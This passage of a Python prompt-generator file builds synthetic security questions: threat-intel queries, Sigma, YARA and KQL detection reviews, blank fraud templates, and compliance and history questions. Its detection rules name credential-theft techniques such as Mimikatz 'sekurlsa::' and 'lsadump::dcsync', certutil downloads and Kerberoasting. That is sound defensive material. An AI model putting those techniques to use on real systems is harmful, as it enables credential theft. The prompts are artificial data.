        ("Lazarus（ラザルス）によるDMM Bitcoinの暗号資産流出事件（2024年）について、時系列でまとめてください。"
         "TraderTraitorとの関係も知りたいです。"),
        "ランサムウェアグループ「BlackSuit」によるKADOKAWAへの攻撃について、公表されている情報を整理してください。",
    ])


@T(CTI, "zh_weixie_qingbao", "zh", 1)
def _zh_weixie_qingbao(c: Ctx) -> str:
    return c.alt([
        "请对比一下 Volt Typhoon 和 Salt Typhoon 这两个 APT 组织的攻击目标和手法，做成表格。",
        "WannaCry 勒索软件当年是怎么传播的？EternalBlue 和 DoublePulsar 分别起了什么作用？",
    ])


@T(CTI, "ru_apt_vopros", "ru", 1)
def _ru_apt_vopros(c: Ctx) -> str:
    return c.alt([
        "Расскажи, чем известна группировка Turla (Snake, Uroburos) и что за операция MEDUSA была в 2023 году.",
        "Объясни разницу между Petya и NotPetya и при чём тут бухгалтерская программа M.E.Doc.",
    ])


@T(CTI, "ti_chat_lower", "en", 3, case="lower")
def _ti_chat_lower(c: Ctx) -> str:
    return c.alt([
        ("anyone seen the new scattered spider writeups? helpdesk social engineering again, this time going after "
         "okta super admins. is it the same crowd as octo tempest / unc3944"),
        ("is volt typhoon the same as bronze silhouette or am i mixing it up with vanguard panda? need it right for "
         "the exec summary"),
        "quick q: does raspberry robin still spread through usb lnk files or has it moved to discord cdn links",
    ])


@T(CTI, "attack_mapping_table", "en", 3)
def _attack_mapping_table(c: Ctx) -> str:
    rows = c.alt([
        [("T1003.001", "LSASS Memory", "Mimikatz, procdump"), ("T1558.003", "Kerberoasting", "Rubeus, Impacket"),
         ("T1021.002", "SMB/Windows Admin Shares", "PsExec")],
        [("T1566.001", "Spearphishing Attachment", "ISO/LNK lures"), ("T1059.001", "PowerShell", "Empire, Nishang"),
         ("T1547.001", "Run Keys / Startup Folder", "AsyncRAT")],
        [("T1078", "Valid Accounts", "stolen Okta sessions"), ("T1110.003", "Password Spraying", "Hydra, Spray365"),
         ("T1486", "Data Encrypted for Impact", "LockBit, Akira")],
    ])
    body = "\n".join(f"| {a} | {b} | {t} |" for a, b, t in rows)
    return f"""Add a "detection idea" column (Sysmon event IDs or Defender tables) to this ATT&CK mapping:

| technique | name | seen with |
|---|---|---|
{body}"""


@T(CTI, "es_ransomware_pregunta", "es", 2, case=(None, "lower"))
def _es_ransomware_pregunta(c: Ctx) -> str:
    return c.alt([
        ("¿Qué se sabe del ataque de ransomware al Hospital Clínic de Barcelona en 2023? ¿Fue RansomHouse o "
         "me confundo con otro grupo?"),
        "explícame cómo operaba lapsus$ y por qué le funcionó tan bien contra nvidia, samsung y ubisoft",
    ])


@T(CTI, "ko_apt_bigyo", "ko", 1)
def _ko_apt_bigyo(c: Ctx) -> str:
    return c.alt([
        "김수키(Kimsuky)와 라자루스(Lazarus) 그룹의 공격 대상과 수법 차이를 표로 정리해 줘.",
        "안다리엘(Andariel)이 국내 방산업체를 노린 사례를 공개된 보고서 기준으로 요약해 줘.",
    ])


# =============================================================================================
# clean_tools_detection (PII-free)
# =============================================================================================

@T(CTL, "sigma_rule_convert", "en", 3)
def _sigma_rule_convert(c: Ctx) -> str:
    target, title, sel = c.alt([
        ("KQL for Microsoft Sentinel", "Mimikatz command line keywords",
         "    CommandLine|contains:\n      - 'sekurlsa::'\n      - 'lsadump::dcsync'\n      - 'kerberos::golden'"),
        ("Splunk SPL", "Certutil used to download a file",
         "    Image|endswith: '\\certutil.exe'\n    CommandLine|contains|all:\n      - 'urlcache'\n      - 'http'"),
        ("Elastic EQL", "Rubeus ticket requests",
         "    CommandLine|contains:\n      - 'asktgt'\n      - 'kerberoast'\n      - 'asreproast'"),
    ])
    return f"""Convert this Sigma rule to {target} and tell me what false positives to expect:

title: {title}
status: experimental
logsource:
  category: process_creation
  product: windows
detection:
  selection:
{sel}
  condition: selection
level: high
tags:
  - attack.credential_access"""


@T(CTL, "yara_review", "en", 2)
def _yara_review(c: Ctx) -> str:
    name, strings = c.alt([
        ("CobaltStrike_Beacon_Generic",
         '        $a = "ReflectiveLoader"\n        $b = "beacon.x64.dll"\n        $c = { 4D 5A 41 52 55 48 89 E5 }'),
        ("Mimikatz_Strings",
         '        $a = "gentilkiwi" wide ascii\n        $b = "sekurlsa::logonpasswords"\n        $c = "mimikatz" nocase'),
    ])
    return f"""Review this YARA rule. Will it be too noisy on a file share with red-team tooling?

rule {name}
{{
    meta:
        description = "Generic detection for lab use"
        reference = "internal purple team exercise"
    strings:
{strings}
    condition:
        uint16(0) == 0x5A4D and 2 of them
}}"""


@T(CTL, "kql_hunting_query", "en", 3)
def _kql_hunting_query(c: Ctx) -> str:
    return c.alt([
        """Why is this hunting query so slow on 90 days of data?

DeviceProcessEvents
| where FileName in~ ("mimikatz.exe", "procdump.exe", "procdump64.exe", "rubeus.exe")
    or ProcessCommandLine has_any ("sekurlsa", "comsvcs.dll")
| summarize count() by DeviceName, AccountName, FileName
| order by count_ desc""",
        """Explain each line of this Kerberoasting hunt so I can present it to the team:

IdentityQueryEvents
| where ActionType == "SAMR query" or QueryType == "AllServicePrincipalNames"
| join kind=inner (SecurityEvent | where EventID == 4769 and TicketEncryptionType == "0x17") on $left.DeviceName == \
$right.Computer
| summarize Requests = count() by bin(TimeGenerated, 1h), Computer""",
        """Turn this into a scheduled analytics rule with entity mapping:

EmailEvents
| where ThreatTypes has "Phish" and DeliveryAction == "Delivered"
| join EmailUrlInfo on NetworkMessageId
| where UrlDomain endswith ".example.com" or UrlDomain has "docusign-"
| project Timestamp, RecipientEmailAddress, SenderFromDomain, Url""",
    ])


@T(CTL, "spl_query_fix", "en", 2)
def _spl_query_fix(c: Ctx) -> str:
    return c.alt([
        """This SPL for RC4 Kerberos tickets returns duplicates. Fix it?

index=wineventlog EventCode=4769 Ticket_Encryption_Type=0x17 Service_Name!="*$"
| stats count values(Service_Name) as spns by Account_Name, Client_Address
| where count > 5""",
        """Rewrite this SPL with tstats so it runs faster on the Authentication data model:

index=* sourcetype=linux_secure "Failed password" | rex "from (?<src>\\S+) port" | stats count by src | \
where count > 50""",
    ])


@T(CTL, "offensive_tool_compare", "en", 3, case=(None, "lower", None))
def _offensive_tool_compare(c: Ctx) -> str:
    return c.alt([
        ("Hydra vs Medusa vs John the Ripper vs Hashcat: which of these are online brute-forcers and which are "
         "offline crackers? A table for our junior analysts please."),
        ("for an internal ad assessment, what does bloodhound (with sharphound) give me that pingcastle and purple "
         "knight don't? and where do responder and certipy fit in"),
        ("Compare Wireshark, Zeek (formerly Bro), Arkime (formerly Moloch) and Suricata for a network team that "
         "has never done packet capture at scale."),
    ])


@T(CTL, "regex_sample_logs", "en", 3)
def _regex_sample_logs(c: Ctx) -> str:
    return c.alt([
        """Write a regex that extracts the source IP and username from these sample lines (copied from the Wazuh docs):

Jan  7 10:15:01 example sshd[2210]: Failed password for invalid user test from 192.0.2.44 port 50122 ssh2
Jan  7 10:15:03 example sshd[2210]: Failed password for root from 192.0.2.44 port 50130 ssh2
Jan  7 10:15:09 example sshd[2214]: Accepted publickey for admin from 198.51.100.8 port 40022 ssh2""",
        """Our parser choaks on this example from the vendor's CEF guide. What's wrong with the escaping?

CEF:0|Example Corp|Gateway|1.0|100|User login|5|src=203.0.113.5 suser=jdoe@example.com msg=Login \\= ok \
cs1Label=tenant cs1=demo""",
        """Turn these documentation log lines into an Elastic ingest pipeline with a grok processor:

2025-01-01T00:00:01Z level=info event=login user=alice@example.com ip=198.51.100.42 result=success
2025-01-01T00:00:05Z level=warn event=login user=bob@example.com ip=203.0.113.9 result=failure reason=bad_password""",
    ])


@T(CTL, "de_werkzeuge", "de", 2, case=(None, "lower"))
def _de_werkzeuge(c: Ctx) -> str:
    return c.alt([
        ("Was ist der Unterschied zwischen Greenbone (OpenVAS) und Nessus? Wir sind ein kleines Stadtwerk mit zwei "
         "Admins und wenig Budget."),
        ("lohnt sich velociraptor für forensik auf 300 windows-clients oder reicht kape mit den tools von eric "
         "zimmerman?"),
    ])


@T(CTL, "pt_ferramentas", "pt", 2, case=(None, "lower"))
def _pt_ferramentas(c: Ctx) -> str:
    return c.alt([
        "Qual a diferença entre o Wazuh e o Elastic Security pra um SOC pequeno de banco digital?",
        "como usar o maltego e o spiderfoot numa investigação osint sem sair coletando dado pessoal à toa?",
    ])


@T(CTL, "tool_questions_lower", "en", 3, case="lower")
def _tool_questions_lower(c: Ctx) -> str:
    return c.alt([
        "is sherlock (the username search tool) still maintained or should i be using maigret now",
        ("how do i stop defender flagging cobalt strike in our purple team lab without turning tamper protection "
         "off on the whole tenant"),
        "metasploit or sliver for a first red team exercise? the team knows python, not go",
    ])


@T(CTL, "it_strumenti", "it", 2, case=(None, "lower"))
def _it_strumenti(c: Ctx) -> str:
    return c.alt([
        ("Mi spieghi come funziona Kerberos (TGT e TGS) e perché il Kerberoasting sfrutta gli SPN degli account "
         "di servizio?"),
        "meglio graylog o splunk per i log di 40 server? il budget è quello che è",
    ])


@T(CTL, "pl_narzedzia", "pl", 2, case=(None, "lower"))
def _pl_narzedzia(c: Ctx) -> str:
    return c.alt([
        "Jak skonfigurować Sysmon z konfiguracją SwiftOnSecurity, żeby wykrywał Mimikatz i dumpowanie LSASS?",
        "czym się różni burp suite od owasp zap przy testach aplikacji bankowej?",
    ])


@T(CTL, "tr_araclar", "tr", 2, case=(None, "lower"))
def _tr_araclar(c: Ctx) -> str:
    return c.alt([
        "Nmap ile Masscan arasındaki fark nedir? Hangi durumda hangisini kullanmalıyım?",
        "ghidra ile ida pro'yu zararlı yazılım analizi için karşılaştırır mısın, yeni başlayan biri için hangisi?",
    ])


@T(CTL, "physical_access_products", "en", 2)
def _physical_access_products(c: Ctx) -> str:
    return c.alt([
        ("We're replacing Paxton Net2. Compare Gallagher Command Centre, Genetec Security Center and LenelS2 "
         "OnGuard for a retailer with 12 sites and Axis cameras."),
        ("Do Salto and Abloy electronic locks work with HID iCLASS SE readers, or do we have to move everyone to "
         "Seos or MIFARE DESFire cards?"),
    ])


@T(CTL, "vi_cong_cu", "vi", 2, case=(None, "lower"))
def _vi_cong_cu(c: Ctx) -> str:
    return c.alt([
        "So sánh giúp mình Snort và Suricata khi triển khai IDS cho một ngân hàng nhỏ.",
        "autopsy (the sleuth kit) dùng để làm gì trong điều tra số? có thay được encase không?",
    ])


# =============================================================================================
# clean_templates (PII-free: blank forms, placeholders, sample people of each language)
# =============================================================================================

@T(CTP, "blank_ir_template", "en", 3)
def _blank_ir_template(c: Ctx) -> str:
    ask = c.alt(["Tighten the wording of this incident report template, keep every field:",
                 "Convert this template into Jira wiki markup:",
                 "What sections is this post-incident template missing compared with NIST SP 800-61?"])
    return f"""{ask}

## Incident {{{{incident_id}}}} – {{{{title}}}}
- Reported by: [Reporter Name] ([reporter email])
- Affected user: <AFFECTED_USER> / <UPN>
- Analyst on call: {{{{analyst_name}}}}
- Source IP(s): <SRC_IP>
- Detected: <YYYY-MM-DD hh:mm UTC>
- Severity: P1 / P2 / P3
## Timeline
| time | who | action |
|---|---|---|
## Root cause
## Lessons learned"""


@T(CTP, "blank_ato_intake_form", "en", 2)
def _blank_ato_intake_form(c: Ctx) -> str:
    return c.alt([
        """Turn this blank account-takeover intake form into a web form spec (field, type, validation):

Customer full name: ____________________
Date of birth: __ / __ / ____
Registered postcode: ________
Mobile on file: ________________
Last login you recognise (date/time): ________
Did you share a one-time code with anyone? Yes / No
Agent name: ____________   Case no.: ATO-______""",
        """Make this chargeback intake checklist clearer for new starters:

[ ] Cardholder name as on card: {CARDHOLDER_NAME}
[ ] Last four digits only: {PAN_LAST4}
[ ] Merchant descriptor: {MERCHANT}
[ ] Transaction date / amount: {TXN_DATE} / {AMOUNT}
[ ] Reason code: {REASON_CODE}
[ ] Contact preference: {EMAIL_OR_PHONE}""",
    ])


@T(CTP, "sample_record_json", "en", 2)
def _sample_record_json(c: Ctx) -> str:
    return c.alt([
        """Our test fixture for the fraud API uses this sample customer. Generate three more like it (same sample style):

{"customer_id": "C-0000001", "first_name": "John", "last_name": "Doe", "email": "john.doe@example.com",
 "dob": "<DOB>", "phone": "<PHONE>", "address": {"line1": "<LINE1>", "city": "<CITY>", "postcode": "<POSTCODE>"},
 "risk_score": 0.12}""",
        """Write a pytest that asserts this sample alert is redacted before logging:

alert = {"user": "jane.doe@example.com", "display_name": "Jane Doe", "src_ip": "<REDACTED>",
         "device": "LAPTOP-EXAMPLE01", "rule": "Impossible travel"}""",
    ])


@T(CTP, "de_mustervorlage", "de", 2)
def _de_mustervorlage(c: Ctx) -> str:
    return c.alt([
        """Verbessere diese Mustervorlage für eine Sicherheitsvorfallmeldung an Kunden:

Sehr geehrte/r {{Anrede}} {{Nachname}},
wir haben am {{Datum}} ungewöhnliche Anmeldungen in Ihrem Konto festgestellt ...
Beispiel: Sehr geehrter Herr Mustermann, ...
Mit freundlichen Grüßen
{{Sachbearbeiter}}""",
        """Ist dieser Beispieldatensatz aus unserer Schulung so in Ordnung, oder sieht er zu echt aus?

Name: Erika Mustermann
Anschrift: Musterstraße 1, 12345 Musterstadt
Kontonummer: DE00 0000 0000 0000 0000 00
Geburtsdatum: TT.MM.JJJJ""",
    ])


@T(CTP, "fr_modele_courrier", "fr", 2)
def _fr_modele_courrier(c: Ctx) -> str:
    return c.alt([
        """Corrige ce modèle de courrier d'alerte fraude (les champs entre crochets sont des variables) :

Madame, Monsieur [NOM DU CLIENT],
Nous avons détecté une opération inhabituelle sur votre carte se terminant par [4 DERNIERS CHIFFRES] ...
Votre conseiller, [PRÉNOM NOM DU CONSEILLER]""",
        ("Pour la formation anti-phishing, on utilise toujours « Jean Dupont » et « Marie Martin » comme employés "
         "fictifs. Tu peux me proposer trois scénarios courts avec ces deux personnages ?"),
    ])


@T(CTP, "es_plantilla_ejemplo", "es", 1)
def _es_plantilla_ejemplo(c: Ctx) -> str:
    return ("En la plantilla de denuncia por fraude usamos «Juan Pérez» y «Fulano de Tal» como ejemplos. "
            "¿Cómo redacto los campos [NOMBRE], [DNI] y [IBAN] para que nadie ponga datos reales en pruebas?")


@T(CTP, "pt_modelo_ficticio", "pt", 1)
def _pt_modelo_ficticio(c: Ctx) -> str:
    return """Revisa esse modelo de termo de contestação de Pix. Os dados são fictícios:

Nome: Fulano de Tal
CPF: 000.000.000-00
Chave Pix de destino: <chave>
Valor: R$ <valor>
Assinatura: Beltrano ou Ciclano (testemunhas)"""


@T(CTP, "ja_youshiki", "ja", 2)
def _ja_youshiki(c: Ctx) -> str:
    return c.alt([
        """この不正利用届の記入例を、もっと分かりやすく直してください。

氏名：山田 太郎（記入例）
生年月日：〇〇〇〇年〇月〇日
住所：〒000-0000 〇〇県〇〇市…
カード番号：下4桁のみ ****""",
        "セキュリティ研修の資料で「山田花子」さんを架空の被害者として使います。フィッシング被害のシナリオを三つ考えてください。",
    ])


@T(CTP, "ko_yangsik", "ko", 2)
def _ko_yangsik(c: Ctx) -> str:
    return c.alt([
        """보안사고 신고서 양식을 다듬어 줘. 예시는 그대로 둬.

성명: 홍길동 (예시)
연락처: 010-0000-0000
발생 일시: YYYY-MM-DD hh:mm
피해 내용: ______""",
        "보이스피싱 예방 교육 자료에 '김철수' 씨를 가상의 피해자로 쓰려고 해. 대화 예시를 만들어 줘.",
    ])


@T(CTP, "zh_moban", "zh", 1)
def _zh_moban(c: Ctx) -> str:
    return """帮我把这个反诈骗培训用的示例表格改得更清楚（张三、李四都是示例人物）：

报案人：张三
涉案人：李四
被骗金额：＿＿＿元
联系方式：＿＿＿＿＿＿"""


@T(CTP, "ru_shablon", "ru", 1)
def _ru_shablon(c: Ctx) -> str:
    return """Поправь шаблон заявления о мошеннической операции. Пример заполнения оставь как есть:

ФИО: Иванов Иван Иванович (образец)
Номер карты: последние 4 цифры
Дата операции: ДД.ММ.ГГГГ
Подпись: ________"""


@T(CTP, "nl_voorbeeld", "nl", 1)
def _nl_voorbeeld(c: Ctx) -> str:
    return ("In onze phishingtraining heten de nepmedewerkers altijd Jan Jansen en Piet Pietersen. Kun je een "
            "korte rollenspeltekst schrijven waarin Jan een nep-factuur ontvangt?")


@T(CTP, "pl_wzor", "pl", 1)
def _pl_wzor(c: Ctx) -> str:
    return """Popraw ten wzór zgłoszenia incydentu (dane przykładowe):

Zgłaszający: Jan Kowalski
Poszkodowany: Anna Nowak
PESEL: ___________
Opis zdarzenia: ____________________"""


@T(CTP, "fi_malli", "fi", 1)
def _fi_malli(c: Ctx) -> str:
    return ("Tietoturvakoulutuksen esimerkkihenkilöt ovat Matti ja Maija Meikäläinen. Keksi lyhyt tarina, jossa "
            "Matti saa huijausviestin \"pankilta\".")


@T(CTP, "no_mal", "no", 1)
def _no_mal(c: Ctx) -> str:
    return """Kan du forbedre denne malen for varsling av datainnbrudd? Eksempelnavnene skal stå:

Til: Ola Nordmann
Kopi: Kari Nordmann
Hendelse: <beskrivelse>
Tidspunkt: <dato og klokkeslett>"""


@T(CTP, "cs_sablona", "cs", 1)
def _cs_sablona(c: Ctx) -> str:
    return ("V našem školení o podvodných SMS vystupují vzoroví klienti Jan Novák a Jana Nováková. Napiš krátký "
            "scénář, kde Jana dostane falešnou zprávu od \"banky\".")


@T(CTP, "el_protypo", "el", 1)
def _el_protypo(c: Ctx) -> str:
    return """Βελτίωσε αυτό το πρότυπο αναφοράς περιστατικού ασφαλείας:

Ονοματεπώνυμο: ____________
Τμήμα: ____________
Περιγραφή συμβάντος: ____________
Ημερομηνία/ώρα: ΗΗ/ΜΜ/ΕΕΕΕ"""


@T(CTP, "ar_namudhaj", "ar", 1)
def _ar_namudhaj(c: Ctx) -> str:
    return """راجع نموذج بلاغ الاحتيال هذا، والاسم مجرد مثال:

اسم المُبلِّغ: فلان الفلاني
رقم الهوية: ______
وصف الواقعة: ______
التاريخ: __/__/____"""


@T(CTP, "caps_staff_notice", "en", 2, case="upper")
def _caps_staff_notice(c: Ctx) -> str:
    return c.alt([
        ("All staff notice: we will never ask for your MFA code, by phone, Teams or text. If anyone does, hang up "
         "and call the service desk on the number on your badge. Please proofread this before it goes on the "
         "screens"),
        ("Security notice - tailgating: do not hold the door for anyone without a visible pass. Challenge politely "
         "or call reception on ext 2000. Is this tone ok for a poster?"),
    ])


@T(CTP, "csv_header_only", "en", 1)
def _csv_header_only(c: Ctx) -> str:
    return """Write a Python script that validates badge exports against this header and sample row (values are \
placeholders):

timestamp,badge_id,cardholder_name,door,result
<ISO8601>,<7 digits>,<LAST, FIRST>,<door name>,<GRANTED|DENIED|ANTI-PASSBACK>"""


@T(CTP, "fraud_schema_sql", "en", 1)
def _fraud_schema_sql(c: Ctx) -> str:
    return """Add sensible indexes and a retention column to this table:

CREATE TABLE fraud_cases (
    case_id       BIGSERIAL PRIMARY KEY,
    customer_id   BIGINT NOT NULL,
    first_name    TEXT,
    last_name     TEXT,
    dob           DATE,
    pan_last4     CHAR(4),
    iban_masked   TEXT,
    opened_by     TEXT NOT NULL,
    created_at    TIMESTAMPTZ DEFAULT now()
);"""


@T(CTP, "tool_schema_json", "en", 1)
def _tool_schema_json(c: Ctx) -> str:
    return """Is this tool definition for our support agent safe? I don't want it to accept full card numbers.

{"name": "open_fraud_case", "description": "Open a fraud case for a customer",
 "parameters": {"type": "object", "properties": {
   "customer_name": {"type": "string", "description": "Full name, e.g. Jane Doe"},
   "card_last4": {"type": "string", "pattern": "^[0-9]{4}$"},
   "reason": {"type": "string", "enum": ["ato", "card_not_present", "scam"]}},
 "required": ["customer_name", "reason"]}}"""


@T(CTP, "alice_bob_training", "en", 1)
def _alice_bob_training(c: Ctx) -> str:
    return ("Our awareness deck explains man-in-the-middle with Alice, Bob, Eve and Mallory. Add Trent and "
            "Peggy/Victor for a zero-knowledge slide, and keep it to five bullet points.")


# =============================================================================================
# clean_policy_questions (PII-free)
# =============================================================================================

@T(CPO, "pci_dss_questions", "en", 3, case=(None, None, "lower"))
def _pci_dss_questions(c: Ctx) -> str:
    return c.alt([
        ("Can we keep the CVV2 after authorisation if it's encrypted? What exactly does PCI DSS 4.0 requirement 3.3 "
         "say, and does it differ for card-on-file with Visa and Mastercard?"),
        ("If we move checkout to hosted fields from Stripe or Adyen, does that take us from SAQ D down to SAQ A, "
         "or A-EP? We still run our own fraud scoring on the BIN."),
        "whats the actual difference between pci dss, pci pin and p2pe? our qsa keeps mixing them up",
    ])


@T(CPO, "gdpr_breach_clock", "en", 3, case=(None, "lower", None))
def _gdpr_breach_clock(c: Ctx) -> str:
    return c.alt([
        ("Under GDPR Article 33, does the 72-hour clock start when the SOC sees the alert or when legal confirms "
         "it's a personal data breach? Please cite the EDPB guidance."),
        ("if a ransomware attack encrypts the crm but nothing is exfiltrated, is that still a notifiable breach? "
         "we're a uk shop with an irish subsidiary, so ico, dpc or both?"),
        ("Summarise EDPB Guidelines 9/2022 on breach notification for a non-EU company with an EU "
         "representative, and how ENISA's severity methodology fits in."),
    ])


@T(CPO, "mfa_policy_paragraph", "en", 2)
def _mfa_policy_paragraph(c: Ctx) -> str:
    return c.alt([
        ("Write a policy paragraph requiring number matching in Microsoft Authenticator for staff and FIDO2 keys "
         "(YubiKey or Google Titan) for admins, with an exception process."),
        ("Should we stop using SMS one-time codes for customer logins? What do the NCSC and NIST SP 800-63B say, "
         "and what did the FFIEC add?"),
    ])


@T(CPO, "policy_questions_lower", "en", 3, case="lower")
def _policy_questions_lower(c: Ctx) -> str:
    return c.alt([
        "does iso 27001 actually require a pen test every year or is that just what the auditors like",
        "whats the difference between soc 2 type 1 and type 2, client wants type 2 by june",
        "is dora in force yet for insurers or only for banks and payment firms? and does it cover our outsourced soc",
    ])


@T(CPO, "de_datenschutz_frage", "de", 2)
def _de_datenschutz_frage(c: Ctx) -> str:
    return c.alt([
        ("Muss der Betriebsrat zustimmen, bevor wir Microsoft Purview Insider Risk Management einführen? "
         "Bitte mit Bezug auf § 87 BetrVG."),
        "Was verlangt NIS2 bzw. das deutsche Umsetzungsgesetz von einem mittelständischen Zahlungsdienstleister?",
    ])


@T(CPO, "fr_question_rgpd", "fr", 2, case=(None, "lower"))
def _fr_question_rgpd(c: Ctx) -> str:
    return c.alt([
        "La CNIL fixe-t-elle une durée de conservation pour les journaux de connexion d'un SOC ? Six mois, un an ?",
        "quelle différence entre iso 27001 et la qualification secnumcloud de l'anssi pour un hébergeur ?",
    ])


@T(CPO, "es_pregunta_ens", "es", 1)
def _es_pregunta_ens(c: Ctx) -> str:
    return ("¿El Esquema Nacional de Seguridad (ENS) se aplica a una fintech privada que presta servicios a "
            "ayuntamientos, o solo al sector público?")


@T(CPO, "pt_pergunta_lgpd", "pt", 2)
def _pt_pergunta_lgpd(c: Ctx) -> str:
    return c.alt([
        "A LGPD exige comunicar a ANPD em quanto tempo depois de um incidente de segurança? E o titular?",
        ("Como funciona o MED (Mecanismo Especial de Devolução) do Pix do Banco Central nos casos de golpe? "
         "Quais os prazos?"),
    ])


@T(CPO, "id_pertanyaan_pdp", "id", 1, case="lower")
def _id_pertanyaan_pdp(c: Ctx) -> str:
    return ("apa kewajiban bank menurut uu pdp dan aturan ojk kalau terjadi kebocoran data nasabah? berapa hari "
            "harus lapor?")


@T(CPO, "th_pdpa_question", "th", 1)
def _th_pdpa_question(c: Ctx) -> str:
    return "PDPA ของไทยกำหนดให้แจ้งเหตุละเมิดข้อมูลส่วนบุคคลต่อสำนักงานคณะกรรมการภายในกี่ชั่วโมง และต้องแจ้งเจ้าของข้อมูลเมื่อไร"


@T(CPO, "hi_dpdp_prashn", "hi", 1)
def _hi_dpdp_prashn(c: Ctx) -> str:
    return ("डिजिटल पर्सनल डेटा प्रोटेक्शन एक्ट 2023 के तहत डेटा ब्रीच होने पर बैंक को किसे और कितने समय में "
            "सूचना देनी होती है? CERT-In के 6 घंटे वाले नियम से यह कैसे अलग है?")


@T(CPO, "ar_ecc_question", "ar", 1)
def _ar_ecc_question(c: Ctx) -> str:
    return ("ما متطلبات الضوابط الأساسية للأمن السيبراني (ECC) الصادرة عن الهيئة الوطنية للأمن السيبراني بشأن "
            "إدارة الهويات والصلاحيات؟ أريد ملخصاً في نقاط.")


@T(CPO, "sv_nis2_fraga", "sv", 1)
def _sv_nis2_fraga(c: Ctx) -> str:
    return "Vad innebär NIS2 för en svensk e-handlare med 80 anställda? Omfattas vi alls?"


@T(CPO, "da_finanstilsynet", "da", 1)
def _da_finanstilsynet(c: Ctx) -> str:
    return ("Hvad kræver Finanstilsynet af danske banker, når der sker en alvorlig it-sikkerhedshændelse? "
            "Og hvordan spiller det sammen med DORA?")


@T(CPO, "physical_security_policy", "en", 2)
def _physical_security_policy(c: Ctx) -> str:
    return c.alt([
        ("Write a tailgating section for our head-office security policy. Turnstiles are Gunnebo, doors use Yale "
         "and Chubb master-keyed locks, and reception is run by Mitie."),
        ("What does CPTED mean in practice, and how would Crime Prevention Through Environmental Design apply to a "
         "bank branch car park with an ATM lobby?"),
    ])


@T(CPO, "aml_framework_questions", "en", 3)
def _aml_framework_questions(c: Ctx) -> str:
    return c.alt([
        ("Summarise the FATF Recommendations that matter to a crypto exchange, especially Recommendation 16 and "
         "the travel rule, in a table."),
        ("What went wrong at Danske Bank's Estonian branch and at Wirecard? One paragraph each for our AML "
         "refresher, with the lessons for transaction monitoring."),
        ("What does the Wolfsberg Group's correspondent banking questionnaire (CBDDQ) cover, and how is it "
         "different from the Bank Secrecy Act requirements?"),
    ])


@T(CPO, "el_nis2_nomos", "el", 1)
def _el_nis2_nomos(c: Ctx) -> str:
    return "Τι προβλέπει ο νόμος 5160/2024 για την ενσωμάτωση της οδηγίας NIS2 στην Ελλάδα; Σε ποιους φορείς εφαρμόζεται;"


@T(CPO, "uk_vymohy_nbu", "uk", 1)
def _uk_vymohy_nbu(c: Ctx) -> str:
    return "Які вимоги НБУ до кіберзахисту банків? Коротко, з посиланням на положення, якщо можеш."


# =============================================================================================
# clean_people_history (PII-free: famous hackers, researchers, fraudsters, cryptographers)
# =============================================================================================

@T(CHI, "famous_hackers_bio", "en", 3, case=(None, None, "lower"))
def _famous_hackers_bio(c: Ctx) -> str:
    return c.alt([
        ("Write a 150-word bio of Kevin Mitnick for our awareness newsletter: the social engineering, the arrest "
         "in 1995, and his later career as a consultant."),
        ("What did Marcus Hutchins actually do with the WannaCry kill switch, and what was he later charged with "
         "over Kronos?"),
        "gary mckinnon, adrian lamo and albert gonzalez, whats the connection if any? for a pub quiz round",
    ])


@T(CHI, "researchers_explained", "en", 3, case=(None, "lower", None))
def _researchers_explained(c: Ctx) -> str:
    return c.alt([
        ("Who were Whitfield Diffie and Martin Hellman, and what did Ron Rivest, Adi Shamir and Leonard Adleman "
         "add a year later? Keep it at A-level maths."),
        "explain dan kaminsky's 2008 dns cache poisoning bug like im a new grad, and why everyone patched at once",
        ("What are Charlie Miller and Chris Valasek remembered for after the 2015 Jeep Cherokee hack, and what "
         "changed at Chrysler afterwards?"),
    ])


@T(CHI, "fraudsters_history", "en", 2)
def _fraudsters_history(c: Ctx) -> str:
    return c.alt([
        ("How much of Frank Abagnale's story in Catch Me If You Can is actually true? I want to use it in "
         "cheque-fraud training without repeating myths."),
        ("Compare the schemes of Charles Ponzi, Bernie Madoff and OneCoin's Ruja Ignatova: how each one paid "
         "early investors and how it unravelled."),
    ])


@T(CHI, "history_questions_lower", "en", 3, case="lower")
def _history_questions_lower(c: Ctx) -> str:
    return c.alt([
        "who wrote the cuckoo's egg, clifford stoll? is it definately still worth giving to new soc analysts",
        "was the morris worm really an accident and what happened to robert tappan morris after",
        "why does bruce schneier keep getting quoted about security theater at airports",
    ])


@T(CHI, "de_geschichte", "de", 2, case=(None, "lower"))
def _de_geschichte(c: Ctx) -> str:
    return c.alt([
        "Wer war Wau Holland, und welche Rolle spielte der Chaos Computer Club beim BTX-Hack 1984?",
        "was hatte karl koch mit dem kgb-hack zu tun, den clifford stoll aufgedeckt hat? und wie endete die geschichte",
    ])


@T(CHI, "fr_kerckhoffs", "fr", 1)
def _fr_kerckhoffs(c: Ctx) -> str:
    return ("Qui était Auguste Kerckhoffs, et pourquoi son principe de 1883 compte encore quand on choisit un "
            "algorithme de chiffrement ?")


@T(CHI, "pl_enigma", "pl", 1)
def _pl_enigma(c: Ctx) -> str:
    return c.alt([
        "Opisz rolę Mariana Rejewskiego, Jerzego Różyckiego i Henryka Zygalskiego w złamaniu Enigmy.",
        "Co Alan Turing zbudował w Bletchley Park na bazie polskiej bomby kryptologicznej?",
    ])


@T(CHI, "ru_kaspersky", "ru", 1)
def _ru_kaspersky(c: Ctx) -> str:
    return "Кто такой Евгений Касперский и с чего начиналась «Лаборатория Касперского»?"


@T(CHI, "el_skytali", "el", 1)
def _el_skytali(c: Ctx) -> str:
    return c.alt([
        "Πώς λειτουργούσε η σκυτάλη των Σπαρτιατών και γιατί θεωρείται κρυπτογράφηση μετάθεσης;",
        "Τι είναι το τετράγωνο του Πολύβιου και πώς εμφανίζεται ακόμα σε διαγωνισμούς CTF;",
    ])


@T(CHI, "it_alberti", "it", 1)
def _it_alberti(c: Ctx) -> str:
    return ("Chi era Leon Battista Alberti e perché il suo disco cifrante è considerato il primo cifrario "
            "polialfabetico? E che c'entra Giovan Battista Bellaso con Vigenère?")


@T(CHI, "ja_rekishi", "ja", 1)
def _ja_rekishi(c: Ctx) -> str:
    return "Winny事件の金子勇さんについて、事件の経緯と無罪判決までを簡単に教えてください。"


@T(CHI, "caps_quiz", "en", 2, case="upper")
def _caps_quiz(c: Ctx) -> str:
    return c.alt([
        ("Security awareness quiz, round 3: who led the team at Bletchley Park that broke the naval Enigma? "
         "A) Alan Turing B) Tommy Flowers C) Gordon Welchman. Check my answer key please"),
        ("Quiz round 4: which worm spread in 2003 and took down the Davis-Besse plant network? A) Slammer "
